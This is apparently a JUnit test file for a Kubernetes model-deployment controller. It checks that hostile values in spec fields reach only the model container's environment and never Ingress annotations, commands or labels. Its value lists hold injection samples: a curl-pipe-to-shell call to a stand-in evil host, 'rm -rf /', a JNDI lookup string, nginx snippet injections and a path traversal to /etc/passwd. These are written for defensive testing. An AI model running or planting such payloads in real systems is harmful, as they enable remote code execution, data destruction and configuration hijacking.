package io.primehub.phdeploy.k8s.desired;

import static io.primehub.phdeploy.k8s.desired.Fixtures.OWNED_NAME;
import static io.primehub.phdeploy.k8s.desired.Fixtures.phusers;
import static io.primehub.phdeploy.k8s.desired.Fixtures.withSpec;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.entry;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.fabric8.kubernetes.api.model.Container;
import io.fabric8.kubernetes.api.model.EnvVar;
import io.fabric8.kubernetes.api.model.HasMetadata;
import io.fabric8.kubernetes.api.model.PodSpec;
import io.fabric8.kubernetes.api.model.networking.v1.HTTPIngressPath;
import io.primehub.phdeploy.core.catalog.Group;
import io.primehub.phdeploy.core.model.AccessType;
import io.primehub.phdeploy.core.model.Endpoint;
import io.primehub.phdeploy.core.model.EndpointClient;
import io.primehub.phdeploy.core.model.ImmutablePredictor;
import io.primehub.phdeploy.core.naming.PodLabels;
import io.primehub.phdeploy.core.validation.SpecValidator;
import io.primehub.phdeploy.core.validation.Violation;
import io.primehub.phdeploy.k8s.config.ControllerConfig;
import io.primehub.phdeploy.k8s.resource.PhDeployment;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Values from a spec that try to reach a shell, an nginx configuration, an Ingress path or an
 * annotation. The validator accepts them in free-text fields (a display name may well contain
 * quotes), so the generated objects must carry them only where they are inert data: the model
 * container's environment. Each value holds {@value #MARKER}, so that wherever one lands in an
 * object, escaped or not, it can be found.
 */
class HostileValuesTest {

  private static final String MARKER = "evil";

  /** A crypt(3) hash of a token; only hashes reach the spec. */
  private static final String HASH = "$6$q7Wm3xZpL0aR2bYc$"
      + "UYgPP/QQ/94dRmPBg9Jx3fU7JU3NiQYJwBKPbcCxfecjVHurPtSl4h3AI6mJEOEnz5C3btxQRWAHNivcyjtht.";

  private static final Endpoint PRIVATE = Endpoint.builder().accessType(AccessType.PRIVATE)
      .addClients(EndpointClient.of("scorer", HASH)).build();

  private static final ObjectMapper JSON = new ObjectMapper();

  private static final Pattern LABEL_VALUE =
      Pattern.compile("([A-Za-z0-9]([-A-Za-z0-9_.]{0,61}[A-Za-z0-9])?)?");

  /** One-line values: shell, nginx and path injections, unicode tricks. */
  static Stream<String> oneLine() {
    return Stream.of(
        "$(curl -s http://evil.example/x | sh)",
        "`reboot evil`",
        "'; rm -rf / # evil",
        "\"; more_set_headers \"X-Evil: 1\"; #",
        "} location / { proxy_pass http://evil.example; } #",
        "${jndi:ldap://evil.example/a}",
        "../../../etc/passwd?evil",
        "/deployment/evil/(.+)",
        "nginx.ingress.kubernetes.io/configuration-snippet: evil",
        "模型 evil ünïcødé \u202Egnp.exe \uD83D\uDE08",
        "evil" + "x".repeat(60));
  }

  /** Values of several lines, which only multi-line fields accept. */
  static Stream<String> multiLine() {
    return Stream.of(
        "first\nnginx.ingress.kubernetes.io/server-snippet: evil\n",
        "ok\r\n$(evil)\r\n`evil`\t'\"",
        "line\u0000evil");
  }

  /**
   * A one-line value in every field, or a multi-line value in the fields that may span lines
   * (with an ordinary display name and ids).
   */
  static Stream<Arguments> freeText() {
    return Stream.concat(
        oneLine().map(value -> Arguments.of(value, value)),
        multiLine().map(value -> Arguments.of("spam classifier", value)));
  }

  @ParameterizedTest
  @MethodSource("freeText")
  void aHostileValueInEveryTextFieldIsAcceptedButReachesOnlyTheModelsEnvironment(
      String line, String text) {
    PhDeployment deployment = hostile(line, text);
    assertThat(SpecValidator.withDefaults().validate(deployment.name(), deployment.getSpec()))
        .as("free text is free").isEmpty();

    DesiredState desired = assertInert(deployment, phusers());

    assertThat(textsWithMarker(desired.deployment())).as("the Deployment")
        .containsExactlyInAnyOrderElementsOf(modelVariablesWithMarker(desired));
  }

  @ParameterizedTest
  @MethodSource("oneLine")
  void aHostileGroupNameBecomesAValidLabelValue(String name) {
    Group group = Group.builder().from(phusers()).name(name).build();
    PhDeployment deployment = withSpec(spec -> spec.withGroupName(name).withEndpoint(PRIVATE));

    DesiredState desired = assertInert(deployment, group);

    Map<String, String> labels =
        desired.deployment().getSpec().getTemplate().getMetadata().getLabels();
    assertThat(labels.values()).allMatch(label -> LABEL_VALUE.matcher(label).matches());
    assertThat(textsWithMarker(desired.deployment())).as("the Deployment")
        .allMatch(text -> text.startsWith("/spec/template/metadata/labels/" + PodLabels.GROUP
            + "="));
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "gs://bucket/(evil)*?{a,b}!#[x]~^=+,%24%28id%29",
      "https://models.example/evil.tar.gz?x=%60reboot%60#frag",
      "s3://bucket/..evil../model",
      "models:/evil/(1)"})
  void aModelUriWithGlobAndEncodedCharactersIsOneArgumentOfNoShell(String uri) {
    PhDeployment deployment =
        Fixtures.withPredictor(predictor -> predictor.withModelURI(uri));
    assertThat(SpecValidator.withDefaults().validate(deployment.name(), deployment.getSpec()))
        .isEmpty();

    PodSpec pod = Fixtures.pod(desired(deployment, phusers()));

    Container init = pod.getInitContainers().get(0);
    assertThat(init.getCommand()).as("the image's own entrypoint, no shell").isEmpty();
    assertThat(init.getArgs()).containsExactly(uri, ModelStorage.MOUNT_PATH);
    assertThat(pod.getContainers()).allSatisfy(c -> assertThat(c.getCommand()).isEmpty());
  }

  @ParameterizedTest
  @MethodSource("multiLine")
  void aLineBreakOrAVeryLongValueInAOneLineFieldIsRefusedNamingTheField(String text) {
    String huge = "evil $(x) ".repeat(10_000);
    PhDeployment deployment = hostile(text, huge);

    assertThat(SpecValidator.withDefaults().validate(deployment.name(), deployment.getSpec()))
        .extracting(Violation::path)
        .contains("spec.displayName", "spec.userId", "spec.userName", "spec.groupId",
            "spec.description", "spec.updateMessage", "spec.predictors[0].metadata[\"NOTES\"]",
            "spec");
  }

  /**
   * A spec with {@code line} in every one-line field and {@code text} in every field that may
   * span lines, private with a client.
   */
  private static PhDeployment hostile(String line, String text) {
    return withSpec(spec -> spec
        .withDisplayName(line)
        .withUserId(line)
        .withUserName(line)
        .withGroupId(line)
        .withDescription(text)
        .withUpdateMessage(text)
        .withEnv(new EnvVar("GREETING", text, null), new EnvVar("OTHER", line, null))
        .withEndpoint(PRIVATE)
        .withPredictors(ImmutablePredictor.copyOf(spec.predictor())
            .withMetadata(Map.of("NOTES", text, "TITLE", line))));
  }

  /**
   * Builds the deployment's objects and checks that no hostile value reached the Ingress, the
   * Service, the Secret, a command line or an annotation; what reached the Deployment is for the
   * caller to say.
   */
  private static DesiredState assertInert(PhDeployment deployment, Group group) {
    DesiredState desired = desired(deployment, group);

    assertThat(withoutHashes(desired.ingress().getMetadata().getAnnotations())).containsOnly(
        entry(IngressAnnotations.REWRITE_TARGET, "/$1"),
        entry(IngressAnnotations.USE_REGEX, "true"),
        entry(IngressAnnotations.AUTH_TYPE, "basic"),
        entry(IngressAnnotations.AUTH_SECRET, OWNED_NAME),
        entry(IngressAnnotations.AUTH_SECRET_TYPE, "auth-file"),
        entry(IngressAnnotations.AUTH_REALM, IngressFactory.AUTH_REALM));
    assertThat(desired.ingress().getSpec().getRules()).singleElement()
        .satisfies(rule -> assertThat(rule.getHttp().getPaths())
            .extracting(HTTPIngressPath::getPath)
            .containsExactly("/deployment/" + Fixtures.NAME + "/(.+)"));
    for (HasMetadata object : List.of(desired.ingress(), desired.service(),
        desired.authSecret())) {
      assertThat(textsWithMarker(object)).as(object.getKind()).isEmpty();
    }

    PodSpec pod = Fixtures.pod(desired);
    assertThat(pod.getContainers()).allSatisfy(container -> {
      assertThat(container.getCommand()).as(container.getName()).isEmpty();
      assertThat(container.getArgs()).as(container.getName()).isEmpty();
    });
    assertThat(withoutHashes(
            desired.deployment().getSpec().getTemplate().getMetadata().getAnnotations()))
        .containsOnlyKeys("prometheus.io/scrape", "prometheus.io/path", "prometheus.io/port");
    return desired;
  }

  /** The annotations but phdeploy's hashes, which are checked to be hexadecimal digits only. */
  private static Map<String, String> withoutHashes(Map<String, String> annotations) {
    Map<String, String> rest = new HashMap<>(annotations);
    Stream.of(DesiredHash.ANNOTATION, DesiredHash.TEMPLATE_ANNOTATION)
        .map(rest::remove)
        .filter(Objects::nonNull)
        .forEach(hash -> assertThat(hash).matches("[0-9a-f]{64}"));
    return rest;
  }

  /** The model container's variables that hold the marker, as {@link #textsWithMarker} says. */
  private static List<String> modelVariablesWithMarker(DesiredState desired) {
    List<EnvVar> env = Fixtures.container(desired, "model").getEnv();
    List<String> texts = new ArrayList<>();
    for (int i = 0; i < env.size(); i++) {
      String value = env.get(i).getValue();
      if (value != null && value.contains(MARKER)) {
        texts.add("/spec/template/spec/containers/0/env/" + i + "/value=" + value);
      }
    }
    return texts;
  }

  private static DesiredState desired(PhDeployment deployment, Group group) {
    return new DesiredStateFactory(ControllerConfig.defaults())
        .build(deployment, group, Fixtures.instanceType("cpu-only"));
  }

  /** Every text of the object holding the marker, as {@code <JSON pointer>=<text>}. */
  private static List<String> textsWithMarker(HasMetadata object) {
    List<String> found = new ArrayList<>();
    collect(JSON.valueToTree(object), "", found);
    return found;
  }

  private static void collect(JsonNode node, String pointer, List<String> found) {
    if (node.isTextual() && node.asText().contains(MARKER)) {
      found.add(pointer + "=" + node.asText());
    } else if (node.isArray()) {
      for (int i = 0; i < node.size(); i++) {
        collect(node.get(i), pointer + "/" + i, found);
      }
    } else if (node.isObject()) {
      for (Map.Entry<String, JsonNode> field : node.properties()) {
        if (field.getKey().contains(MARKER)) {
          found.add(pointer + "/" + field.getKey() + " (a key)");
        }
        collect(field.getValue(), pointer + "/" + field.getKey(), found);
      }
    }
  }
}
